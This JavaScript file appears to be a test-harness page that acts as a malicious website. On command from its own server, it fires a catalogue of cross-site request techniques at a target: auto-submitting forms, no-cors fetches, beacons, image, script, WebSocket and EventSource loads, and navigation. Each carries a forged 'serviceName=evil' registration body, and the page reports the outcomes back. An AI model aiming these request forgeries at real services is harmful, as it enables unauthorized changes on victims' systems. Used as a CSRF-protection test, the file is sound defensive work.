/**
 * A page of a site that means ill. It waits for a word of its own server, does one deed after the other to whoever it is told, and says
 * what came of each. A page has no other ways to make a browser send something.
 */
const { home, target, deeds } = JSON.parse(decodeURIComponent(location.hash.slice(1)));
const BODY = 'serviceName=evil&ip=10.6.6.6&port=666';

const say = (line) => fetch(`${home}/said`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(line) });
const once = (node, ...names) => new Promise((resolve) => names.map((name) => node.addEventListener(name, resolve)));

function frame(fields) {
  const node = Object.assign(document.createElement('iframe'), fields);
  document.body.append(node);
  return node;
}

async function loaded(node) {
  const { type } = await once(node, 'load', 'error');
  return type;
}

/** A page that submits itself once it is there. */
const formTo = (url) =>
  `<body onload="setTimeout(() => document.forms[0].submit())"><form method="post" action="${url}">
   <input name="serviceName" value="evil"><input name="ip" value="10.6.6.6"><input name="port" value="666"></form>`;

/** Once there is the answer in the place of a page that has submitted itself. */
async function answered(node) {
  await once(node, 'load');
  return loaded(node);
}

const seen = async (answer) => `${answer.type} ${answer.status} ${(await answer.text()).length}`;
const get = (url) => fetch(url).then(seen);
const send = (method, url, init = {}) => fetch(url, { method, body: BODY, ...init }).then(seen);
const FORM = { 'content-type': 'application/x-www-form-urlencoded' };

const DEEDS = {
  form: (url) => answered(frame({ srcdoc: formTo(url) })),
  sandboxedForm: (url) => answered(frame({ sandbox: 'allow-forms allow-scripts', srcdoc: formTo(url) })),
  formWithoutReferrer: (url) => answered(frame({ src: `${home}/without-referrer#${encodeURIComponent(url)}` })),
  fetchForm: (url) => send('POST', url, { mode: 'no-cors', headers: FORM }),
  fetchText: (url) => send('POST', url, { mode: 'no-cors' }),
  beacon: (url) => String(navigator.sendBeacon(url, new Blob([BODY], { type: FORM['content-type'] }))),
  post: (url) => send('POST', url, { headers: FORM }),
  put: (url) => send('PUT', url),
  delete: (url) => send('DELETE', url),
  json: (url) => send('POST', url, { headers: { 'content-type': 'application/json' }, body: '{}' }),
  image: (url) => loaded(Object.assign(new Image(), { src: url })),
  script(url) {
    const node = Object.assign(document.createElement('script'), { src: url });
    document.body.append(node);
    return loaded(node);
  },
  frame: (url) => loaded(frame({ src: url })),
  get,
  getWithoutReferrer: (url) => fetch(url, { referrerPolicy: 'no-referrer' }).then(seen),
  async eventSource(url) {
    const source = new EventSource(url);
    const { type } = await once(source, 'open', 'error');
    source.close();
    return type;
  },
  async webSocket(url) {
    const { type } = await once(new WebSocket(url.replace('http', 'ws')), 'open', 'error');
    return type;
  },
  /** The last of all. */
  navigation(url) {
    location.href = url;
  },
};

await say({ event: 'ready' });
await fetch(`${home}/go`);
for (const [deed, url] of deeds) {
  const outcome = await Promise.resolve(DEEDS[deed](new URL(url, target).href)).catch((error) => error.name);
  await say({ event: 'done', deed, url, outcome });
}
